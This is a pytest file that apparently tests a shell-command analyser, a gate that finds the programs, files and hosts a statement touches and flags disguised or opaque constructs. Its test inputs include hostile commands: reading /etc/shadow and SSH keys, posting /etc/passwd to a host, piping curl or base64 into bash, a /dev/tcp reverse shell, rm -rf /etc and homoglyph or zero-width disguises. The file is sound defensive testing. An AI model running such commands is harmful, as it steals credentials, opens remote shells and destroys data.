"""What a statement would run, read, write and contact, construct by construct (issue of the gate: facts)."""

from __future__ import annotations

import pytest

from policies.facts import Flag
from policies.shell import MAX_STATEMENT_BYTES, analyse, quick


def runs(statement: str) -> list[list[str | None]]:
    return [command["argv"] for command in quick(statement).as_json()["commands"]]


def programs(statement: str) -> list[str]:
    return [command.words[0].text for command in quick(statement).commands]


def touched(statement: str) -> tuple[list[str], list[str], list[str]]:
    facts = quick(statement).as_json()
    return facts["reads"], facts["writes"], facts["contacts"]


@pytest.mark.parametrize(
    ("statement", "found"),
    [
        ("ls;rm x", ["ls", "rm"]),
        ("a && b || c; d & e", ["a", "b", "c", "d", "e"]),
        ("a | b |& c", ["a", "b", "c"]),
        ("(a; b) && { c; }", ["a", "b", "c"]),
        ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
        ("while a; do b; done; until c; do d; done", ["a", "b", "c", "d"]),
        ("for x in $(a); do b; done", ["a", "b"]),
        ("case $(a) in x|y) b;; *) c;; esac", ["a", "b", "c"]),
        ("f() { a; }; function g { b; }", ["a", "b"]),
        ('echo "$(a)" `b` ${x:-$(c)} $((1 + $(d)))', ["echo", "a", "b", "c", "d"]),
        ("diff <(a) >(b)", ["diff", "a", "b"]),
        ("x=$(a) b; c=$(d)", ["b", "a", "d"]),
        ("cat <<E | a\n$(b)\nE\nc", ["cat", "a", "b", "c"]),
        ("cat <<'E'\n$(b)\nE\n", ["cat"]),
        ("[[ $(a) ]] && b", ["a", "b"]),
        ("[ -f x ] && b", ["[", "b"]),
        ("! a; time b; coproc c", ["a", "time", "b", "coproc", "c"]),
        ('r""m x; \\ls; "my prog"', ["rm", "ls", "my prog"]),
        ("echo $'\\x72m' | a", ["echo", "a"]),
        ("$'\\x72\\155' x", ["rm"]),
        ("{ a; } 2>&1 | b", ["a", "b"]),
        ("a # b; c", ["a"]),
        ("export X=$(a)", ["export", "a"]),
        ("trap 'a; b' EXIT", ["trap", "a", "b"]),
        ("alias x='a | b'", ["alias", "a", "b"]),
    ],
)
def test_t30_every_command_is_found(statement: str, found: list[str]) -> None:
    assert sorted(programs(statement)) == sorted(found)


@pytest.mark.parametrize(
    ("statement", "found"),
    [
        ("sudo -u root -E X=1 rm -rf /x", ["rm", "-rf", "/x"]),
        ("doas rm x", ["rm", "x"]),
        ("env -i -u A B=1 rm x", ["rm", "x"]),
        ("env -S 'rm x'", ["rm", "x"]),
        ("timeout -k 1 5 rm x", ["rm", "x"]),
        ("nohup nice -n 5 ionice -c 3 rm x", ["rm", "x"]),
        ("stdbuf -oL setsid rm x", ["rm", "x"]),
        ("xargs -0 -n 1 rm -f", ["rm", "-f", None]),
        ("parallel -j 4 rm {} ::: a b", ["rm", None]),
        ("find . -name x -exec rm {} +", ["rm", None]),
        ("find . -execdir rm x \\;", ["rm", "x"]),
        ("watch -n 1 'rm x'", ["rm", "x"]),
        ("time -p rm x", ["rm", "x"]),
        ("strace -f -e trace=file rm x", ["rm", "x"]),
        ("ssh -p 22 u@h 'rm x'", ["rm", "x"]),
        ("ssh -o ProxyCommand='rm x' h", ["rm", "x"]),
        ("kubectl -n ns exec -it pod -c c -- rm x", ["rm", "x"]),
        ("docker exec -u root box rm x", ["rm", "x"]),
        ("docker run --rm -v /a:/b image rm x", ["rm", "x"]),
        ("podman run --entrypoint rm image x", ["rm", "x"]),
        ("sh -c 'rm x'", ["rm", "x"]),
        ("bash -lc 'sudo rm x'", ["rm", "x"]),
        ("eval rm 'x'", ["rm", "x"]),
        ("command -p rm x", ["rm", "x"]),
        ("exec -a y rm x", ["rm", "x"]),
        ("su -c 'rm x' deploy", ["rm", "x"]),
        ("busybox rm x", ["rm", "x"]),
        ("/lib64/ld-linux-x86-64.so.2 rm x", ["rm", "x"]),
        ("echo 'rm x' | sh", ["rm", "x"]),
        ("bash <<'E'\nrm x\nE\n", ["rm", "x"]),
        ("bash <<< 'rm x'", ["rm", "x"]),
        ("cat <<'E' | bash -s\nrm x\nE\n", ["rm", "x"]),
        ("python3 -c 'import os; os.system(\"rm x\")'", ["rm", "x"]),
        ("perl -e 'exec \"rm x\"'", ["rm", "x"]),
        ("awk 'BEGIN { system(\"rm x\") }'", ["rm", "x"]),
        ("psql -c '\\! rm x'", ["rm", "x"]),
        ("flock /tmp/l rm x", ["rm", "x"]),
        ("git -c core.pager='rm x' log", ["rm", "x"]),
        ("script -c 'rm x' /dev/null", ["rm", "x"]),
        ("rm > /dev/null x", ["rm", "x"]),
        ("sudo -k rm x", ["rm", "x"]),
        ("sudo sh -c 'env nice sh -c \"rm x\"'", ["rm", "x"]),
    ],
)
def test_t31_what_other_programs_start_is_found(statement: str, found: list[str | None]) -> None:
    assert found in runs(statement)


@pytest.mark.parametrize(
    ("statement", "reads", "writes", "contacts"),
    [
        ("cat /etc/../etc//shadow", ["/etc/shadow"], [], []),
        ("cd /etc && cat shadow", ["/etc/shadow"], [], []),
        ("cd /etc; cat shadow", ["shadow", "/etc/shadow"], [], []),
        ('cat "$HOME/.ssh/id_rsa" ~/.netrc', ["~/.ssh/id_rsa", "~/.netrc"], [], []),
        ("a < in > out 2>> err", ["in"], ["out", "err"], []),
        ("a &> out; b >| c; d > /dev/null 2>&1", [], ["out", "c"], []),
        ("a | b > o c", [], ["o"], []),
        ("echo $(</etc/shadow)", ["/etc/shadow"], [], []),
        ("a <(< x) $(> y)", ["x"], ["y"], []),
        ("f=$(< x); a > $(< y)", ["x", "y"], ["$(< y)"], []),
        ("tee -a x y", [], ["x", "y"], []),
        ("dd if=/dev/sda of=/x bs=1M", ["/dev/sda"], ["/x"], []),
        ("cp -a a b /dest", ["a", "b"], ["/dest"], []),
        ("cp -t /dest a b", ["a", "b"], ["/dest"], []),
        ("mv a b", ["a"], ["a", "b"], []),
        ("install -m 0755 a /usr/bin/a", ["a"], ["/usr/bin/a"], []),
        ("tar czf /b.tgz -C /srv data", ["/srv/data"], ["/b.tgz"], []),
        ("tar -xf a.tar -C /opt", ["a.tar"], ["/opt"], []),
        ("curl -o x -T y https://u:p@h.example:8443/z", ["y"], ["x"], ["h.example"]),
        ("curl -d @/etc/passwd -F f=@/a h.example", ["/etc/passwd", "/a"], [], ["h.example"]),
        ("wget -qO- http://h.example/x", [], [], ["h.example"]),
        ("scp -P 22 a u@h.example:/b", ["a"], [], ["h.example"]),
        ("rsync -a -e ssh h.example:/a /b", [], ["/b"], ["h.example"]),
        ("nc -w 3 10.0.0.1 80 < x", ["x"], [], ["10.0.0.1"]),
        ("a > /dev/tcp/10.0.0.1/80", [], [], ["10.0.0.1"]),
        ("aws s3 cp /a s3://bucket/b", ["/a"], [], ["s3://bucket"]),
        ("aws s3 cp s3://bucket/b /c/", [], ["/c"], ["s3://bucket"]),
        ("aws s3 cp s3://bucket/b -", [], [], ["s3://bucket"]),
        ("aws s3api put-object --bucket b --key k --body /a", ["/a"], [], ["s3://b"]),
        ("gsutil -m cp -r a gs://bucket", ["a"], [], ["gs://bucket"]),
        ("gcloud storage rsync /a gs://bucket", ["/a"], [], ["gs://bucket"]),
        ("az storage blob upload --account-name x -f /a", ["/a"], [], ["az://x"]),
        ("rclone copy /a remote:b", ["/a"], [], ["remote:"]),
        ("s3cmd put /a s3://bucket", ["/a"], [], ["s3://bucket"]),
        ("mc cp /a store/b", ["/a"], [], ["store/"]),
        ("sed -i s/a/b/ /etc/hosts", [], ["/etc/hosts"], []),
        ("sed s/a/b/ /etc/hosts", ["/etc/hosts"], [], []),
        ("perl -pi -e s/a/b/ /etc/hosts", ["/etc/hosts"], ["/etc/hosts"], []),
        ("perl -ne print /etc/hosts", ["/etc/hosts"], [], []),
        ("ed -s /etc/hosts < x", ["/etc/hosts", "x"], ["/etc/hosts"], []),
        ("ssh-keygen -lf /a", ["/a"], [], []),
        ("ssh-keygen -f /a", ["/a"], ["/a"], []),
        ("grep -r x /etc", ["/etc"], [], []),
        ("grep -e x y z", ["y", "z"], [], []),
        ("chmod 600 x", [], ["x"], []),
        ("find /tmp -delete", [], ["/tmp"], []),
        ("sudo cat /x", ["/x"], [], []),
        ("od -w /a; column -t /b; mkdir -Z /c", ["/a", "/b"], ["/c"], []),
        ("jq -n . /a; date -I -f /b; zstd -b /c", ["/a", "/b", "/c"], ["/c"], []),
        ("tcpdump -I -w /a; make -j -f /b", ["/b"], ["/a"], []),
        ("rsync -p /a h.example:/b", ["/a"], [], ["h.example"]),
        ("file -f /a b", ["/a", "b"], [], []),
        ("wc --files0-from=/a; sort --files0-from /b", ["/a", "/b"], [], []),
        ("diff --from-file=/a /b", ["/a", "/b"], [], []),
        ("aws lambda invoke --payload file:///a f", ["/a"], [], []),
        ("cat {a,b}.txt", ["a.txt", "b.txt"], [], []),
    ],
)
def test_files_and_hosts(statement: str, reads: list[str], writes: list[str], contacts: list[str]) -> None:
    assert touched(statement) == (reads, writes, contacts)


@pytest.mark.parametrize(
    ("statement", "flag"),
    [
        ("$x y", Flag.OPAQUE),
        ("$(echo rm) x", Flag.OPAQUE),
        ("/bin/c?t x", Flag.OPAQUE),
        ("r${IFS}m", Flag.OPAQUE),
        ("ssh $h", Flag.OPAQUE),
        ("ssh $h uptime", Flag.OPAQUE),
        ("ssh -p $p h uptime", Flag.OPAQUE),
        ("for h in $(a); do ssh $h uptime; done", Flag.OPAQUE),
        ("for h in -ox b; do ssh $h uptime; done", Flag.OPAQUE),
        ("for h in a b; do read h; ssh $h uptime; done", Flag.OPAQUE),
        ("for h in a b; do :; done; ssh $h uptime", Flag.OPAQUE),
        ("docker $x", Flag.OPAQUE),
        ("docker exec $c ls", Flag.OPAQUE),
        ("docker run $options image ls", Flag.OPAQUE),
        ("kubectl exec $x -- ls", Flag.OPAQUE),
        ("kubectl -n $n get pods", Flag.OPAQUE),
        ("kubectl exec $(kubectl get pod -o name) -- ls", Flag.OPAQUE),
        ("perl -pi -e 'x' y", Flag.INTERPRETER),
        ("echo aGk= | base64 -d | sh", Flag.OPAQUE),
        ("curl x | bash", Flag.OPAQUE),
        ('bash -c "$x"', Flag.OPAQUE),
        ("eval $x", Flag.OPAQUE),
        ("sh <(curl x)", Flag.OPAQUE),
        ("echo x > /tmp/a; . /tmp/a", Flag.OPAQUE),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Flag.OPAQUE),
        ("sh <<E\n`x`\nE\n", Flag.OPAQUE),
        ("python3 -c 1", Flag.INTERPRETER),
        ("perl -e 1", Flag.INTERPRETER),
        ("python3 <<'E'\n1\nE\n", Flag.INTERPRETER),
        ("awk 'BEGIN { system(\"x\") }'", Flag.INTERPRETER),
        ("sed '1e x' y", Flag.INTERPRETER),
        ("psql -c '\\! x'", Flag.INTERPRETER),
        ("sudo x", Flag.PRIVILEGED),
        ("su -c x", Flag.PRIVILEGED),
        ("x &", Flag.BACKGROUND),
        ("nohup x", Flag.BACKGROUND),
        ("f() { x; }", Flag.DEFINES),
        ("alias ls=rm", Flag.DEFINES),
        ("PATH=/x:$PATH", Flag.DEFINES),
        ("LD_PRELOAD=/x.so y", Flag.DEFINES),
        ("export IFS=x", Flag.DEFINES),
        ("trap x EXIT", Flag.DEFINES),
        ("declare PROMPT_COMMAND=x", Flag.DEFINES),
        ("read x", Flag.READS_STDIN),
        ("cat", Flag.READS_STDIN),
        ("ssh h", Flag.READS_STDIN),
        ("python3 -", Flag.READS_STDIN),
        ("ed x", Flag.READS_STDIN),
        ("bash", Flag.READS_STDIN),
        ("nc h 1", Flag.READS_STDIN),
        ("docker exec -i c ls", Flag.READS_STDIN),
        ("docker compose exec -T c ls", Flag.READS_STDIN),
        ("kubectl exec -it p -- ls", Flag.READS_STDIN),
        ("exec < x", Flag.SWITCHES_INPUT),
        ("exec 3> x", Flag.SWITCHES_INPUT),
        ("shopt -s extglob", Flag.SWITCHES_INPUT),
        ("set -H", Flag.SWITCHES_INPUT),
        ("enable -f x y", Flag.SWITCHES_INPUT),
        ("hash -p /x ls", Flag.SWITCHES_INPUT),
        ("l\u200bs", Flag.HIDDEN),
        ("rсlone x", Flag.HIDDEN),
        ("echo \u202ex", Flag.HIDDEN),
        ("echo \x1b[8m", Flag.HIDDEN),
        ("if x", Flag.UNPARSED),
        ("a\0b", Flag.UNPARSED),
        ("echo '" + "x" * MAX_STATEMENT_BYTES + "'", Flag.UNPARSED),
        ("(" * 200 + "x" + ")" * 200, Flag.UNPARSED),
    ],
)
def test_l4_what_is_not_known_has_a_flag(statement: str, flag: Flag) -> None:
    assert flag in quick(statement).flags


@pytest.mark.parametrize(
    "statement",
    [
        "ls -la /tmp",
        "systemctl restart nginx",
        "awk '{ print $1 }' /var/log/x",
        "awk -F: '$3 > 1000 { print $1 }' /etc/passwd",
        "sed -n '1,5p' x",
        "sed 's/a/b/g' x",
        'for f in *.log; do gzip "$f"; done',
        "for i in {1..20}; do curl -fs localhost:8080/health && break; sleep 1; done",
        "touch part-{01..12} {a..c}.log",
        "find . -name '*.log' | xargs rm -f",
        "tar czf - /srv | ssh h 'cat > x'",
        'echo "$(date): done" >> x',
        "psql -c 'select 1'",
        "set -euo pipefail",
        "PATHS=$PATHS:$HOME/bin",
        'ls "$A:$B/c" $A:$B',
        'ssh "$h" uptime',
        "for h in web-1 web-2; do ssh deploy@$h uptime; done",
        'docker exec "$c" ls',
        "docker run --rm -v $PWD:/src -v $(pwd)/out:/out image make",
        "docker run --rm -v $PWD:/src -u $(id -u):$(id -g) -e N=$(nproc) image make",
        "find . -name '*.sh' -exec bash -n {} \\;",
        "find . -name '*.php' -exec php -l {} \\;",
        "docker build -t $IMAGE .",
        "docker rm $c",
        "kubectl get pods -n $n",
    ],
)
def test_ordinary_lines_have_no_grave_flag(statement: str) -> None:
    assert not quick(statement).flags & {
        Flag.OPAQUE,
        Flag.UNPARSED,
        Flag.INTERPRETER,
        Flag.HIDDEN,
        Flag.DEFINES,
    }


@pytest.mark.parametrize(
    "statement",
    [
        'ssh web-1 "docker pull $i && rm -rf /etc"',
        'ssh "$h" "cd /srv; rm -rf /etc $x"',
        'bash -c "cat \\"$x\\" && rm -rf /etc"',
        'eval "rm -rf /etc $x"',
        'watch "rm -rf /etc | grep $x"',
    ],
)
def test_a_script_with_values_in_it_is_opaque_and_also_read_as_what_it_most_likely_is(statement: str) -> None:
    facts = quick(statement)
    assert Flag.OPAQUE in facts.flags
    assert Flag.UNPARSED not in facts.flags
    assert "/etc" in [touch.value.text for touch in facts.writes]
    assert any(command.program.form == "computed" for command in facts.commands)


@pytest.mark.parametrize(
    "statement",
    [
        "cat > /srv/x <<< 'a b'",
        'sudo tee /etc/y > /srv/x <<< "a $b"',
        "cat >/srv/x 2>&1 <<<a; ls",
        "bash > /srv/x <<< 'ls'",
    ],
)
def test_a_here_string_behind_a_redirection_is_known(statement: str) -> None:
    facts = quick(statement)
    assert not facts.flags & {Flag.UNPARSED, Flag.OPAQUE}
    assert "/srv/x" in [touch.value.text for touch in facts.writes]
    assert analyse(statement.encode()).flags == facts.flags


@pytest.mark.parametrize(
    "statement",
    ["rm 'a > b <<< c' > f <<< x", "cat 0< a > b <<< c", "cat > f <<< a`rm x`", 'cat > f <<< "$(rm x)"'],
)
def test_l4_a_here_string_that_may_be_something_else_is_unparsed(statement: str) -> None:
    facts = quick(statement)
    assert Flag.UNPARSED in facts.flags or "rm" in [command.program.text for command in facts.commands]


@pytest.mark.parametrize(
    "statement", ['ssh "$h" "\'$x"', 'bash -c "if $x"', 'ssh h "$x"', "find . -exec bash {} \\;"]
)
def test_l4_a_script_that_cannot_be_guessed_at_is_opaque(statement: str) -> None:
    assert quick(statement).flags & {Flag.OPAQUE, Flag.UNPARSED} == {Flag.OPAQUE}


def test_a_value_that_is_certain_is_what_a_variable_begins_with() -> None:
    (touch,) = quick("f=/etc/shadow; cat $f").reads
    assert (touch.value.form, touch.value.prefix) == ("computed", "/etc/shadow")


def test_l4_where_the_first_parser_may_be_wrong_the_second_must_agree() -> None:
    assert not analyse(b"ls \\\n  -la").flags
    assert Flag.UNPARSED in analyse(b"coproc x { rm y; }").flags or "rm" in programs("coproc x { rm y; }")


@pytest.mark.parametrize(
    ("statement", "opaque"),
    [
        ('sed "$x" y', True),
        ('sed "1i >$x" y', False),
        ('awk "/$x/ {print}" y', False),
        ("xargs bash -c", True),
        ("xargs bash", True),
        ("xargs -n1 bash -c 'wc -l \"$1\"' --", False),
        ("xargs -I{} bash -c 'wc -l {}'", True),
    ],
)
def test_code_that_is_known_in_part_is_not_opaque(statement: str, opaque: bool) -> None:
    assert (Flag.OPAQUE in quick(statement).flags) is opaque
